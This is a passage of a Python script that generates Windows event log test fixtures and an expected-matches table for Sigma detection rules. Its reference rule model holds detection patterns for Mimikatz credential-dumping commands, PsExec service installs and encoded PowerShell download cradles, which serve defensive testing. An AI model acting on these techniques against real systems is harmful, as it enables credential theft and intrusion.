        system_dirs = re.compile(r"^[a-z]:\\(windows\\(system32|syswow64|servicing|winsxs)|program files( \(x86\))?"
                                 r"|programdata\\microsoft\\windows defender)\\", re.I)
        if parent.endswith("\\services.exe") and image and not system_dirs.search(image):
            hits.append("0f7a004c-f48e-46b1-a650-1107d8f2cabb")
    if channel == "System" and provider == "Service Control Manager" and eid == 7045 and \
            (low.get("ServiceName") == "psexesvc" or low.get("ImagePath", "").endswith("\\psexesvc.exe")):
        hits.append("05dbc954-2e98-4623-a653-c3fbd62f2867")
    if channel == "Microsoft-Windows-PowerShell/Operational" and eid == 4104:
        text = s.get("ScriptBlockText", "")
        if "frombase64string" in text.lower() and any(
                v in text for needle in ("DownloadString(", "DownloadFile(", "Net.WebClient")
                for v in b64offset_variants(needle)):
            hits.append("e2a8cafd-5747-4552-9dfe-d27c3b12f0e1")
    keywords = ("sekurlsa::logonpasswords", "sekurlsa::pth", "lsadump::sam", "lsadump::dcsync", "kerberos::golden")
    if any(k in v for v in low.values() for k in keywords):
        hits.append("a58a8721-3aa7-4d79-b0e4-d77d61280f61")
    if channel == "Microsoft-Windows-Sysmon/Operational" and eid == 3:
        raise AssertionError("no network_connection event in the fixtures")
    return sorted(hits)


def self_check(rendered):
    table = load_table()
    for i, ev in enumerate(EVENTS):
        names = [n for n, _, _ in ev["data"]]
        rows = table.get((ev["provider"][0].lower(), ev["event_id"], ev["version"]), [])
        assert names in rows, f"line {i + 1}: field list not in {TABLE}"
        views = {}
        for shape in SHAPES:
            rec = json.loads(rendered[shape][i])
            detected, sysv, data = sigma_view(rec, table, names)
            assert detected == shape, (i + 1, shape, detected)
            assert list(data) == names or shape == "vector", (i + 1, shape)
            assert set(data) == set(names), (i + 1, shape)
            views[shape] = (sysv, {k: canon(v) for k, v in data.items()})
            got = rule_model(sysv, data)
            assert got == sorted(ev["expected"]), (i + 1, shape, got, ev["expected"])
        first = views["evtx_dump"]
        for shape, view in views.items():
            assert view == first, (i + 1, shape, [k for k in view[1] if view[1][k] != first[1].get(k)])


# ---------------------------------------------------------------------------------------
# EXPECTED.md
# ---------------------------------------------------------------------------------------

def expected_md():
    out = []
    out.append("# Expected matches for the shape fixtures")
    out.append("")
    out.append("The files in this folder hold the same six Windows events in seven shapes:")
    out.append("")
    out.append("| file | shape |")
    out.append("| --- | --- |")
    descr = {
        "evtx_dump": "`evtx_dump -o jsonl` (`Event.System`, `Event.EventData`, `#attributes`)",
        "winlogbeat": "Winlogbeat 8 / Elastic Agent without an ingest pipeline (`winlog.*`, `event_id` as a string)",
        "nxlog": "NXLog `im_msvistalog` + `to_json()` (flat; event data at the top level)",
        "vector": "Vector `windows_event_log` source, legacy namespace (`event_data`, keys in sorted order)",
        "fluentbit_map": "Fluent Bit `winevtlog` with `event_data_as_map` (`EventData` map)",
        "fluentbit_inserts": "Fluent Bit `winevtlog` without it (positional `StringInserts`)",
        "flat": "Sigma field names at the top level",
    }
    for shape in SHAPES:
        out.append(f"| `{shape}.ndjson` | {descr[shape]} |")
    out.append("")
    out.append("Line N of every file is the same event, and the rules that must match it are the same for")
    out.append("every file. `none` means no bundled rule may match. The rule ids are those of the bundled rules")
    out.append("in `rules/windows/`, evaluated through `rules/logsources.yaml` (Security 4688 reaches the")
    out.append("process_creation rules with `Image` read from `NewProcessName` and `ParentImage` from")
    out.append("`ParentProcessName`). The Fluent Bit `StringInserts` file needs the template table")
    out.append("`rules/winevt/string_inserts.tsv` to name the positions; every event here has a row there.")
    out.append("How each shape maps onto Sigma fields is in `docs/shapes.md`.")
    out.append("")
    out.append("The events are invented for this project: host names, users, SIDs, GUIDs, hashes and record")
    out.append("numbers are made up, and IP addresses come from documentation ranges. The files are written by")
    out.append("`tools/gen_shape_fixtures.py` from one description; edit that script, not the files. No table")
    out.append("cell contains a `|` character, so a row can be split on `|`; the last column is a")
    out.append("comma-separated list of rule ids or `none`.")
    out.append("")
    out.append("## Rules")
    out.append("")
    out.append("| rule id | file | title |")
    out.append("| --- | --- | --- |")
    used = sorted({r for ev in EVENTS for r in ev["expected"]})
    for rid in used:
        path, title = RULES[rid]
        out.append(f"| `{rid}` | `{path}` | {title} |")
    out.append("")
    out.append("## Expected matches")
    out.append("")
    out.append("| line | event | exercises | expected rule ids |")
    out.append("| --- | --- | --- | --- |")
    for i, ev in enumerate(EVENTS, 1):
        ids = ", ".join(f"`{r}`" for r in ev["expected"]) or "none"
        out.append(f"| {i} | {ev['title']} | {ev['exercises']} | {ids} |")
    out.append("")
    text = "\n".join(out)
    assert all("|" not in (ev["title"] + ev["exercises"]) for ev in EVENTS)
    return text


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--check", action="store_true", help="do not write; exit 1 if a file differs")
    ap.add_argument("--out", default=OUT_DIR)
    args = ap.parse_args()

    rendered = {shape: [dumps(shape, RENDER[shape](ev)) for ev in EVENTS] for shape in SHAPES}
    self_check(rendered)
    files = {f"{shape}.ndjson": "\n".join(lines) + "\n" for shape, lines in rendered.items()}
    files["EXPECTED.md"] = expected_md()

    stale = []
    for name, text in files.items():
        path = os.path.join(args.out, name)
        if args.check:
            try:
                with open(path, encoding="utf-8") as f:
                    if f.read() != text:
                        stale.append(name)
            except FileNotFoundError:
                stale.append(name)
        else:
            os.makedirs(args.out, exist_ok=True)
            with open(path, "w", encoding="utf-8", newline="\n") as f:
                f.write(text)
    if stale:
        print("not up to date: " + ", ".join(stale) + " (run tools/gen_shape_fixtures.py)", file=sys.stderr)
        return 1
    print(("checked " if args.check else "wrote ") + f"{len(files)} files in {args.out}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
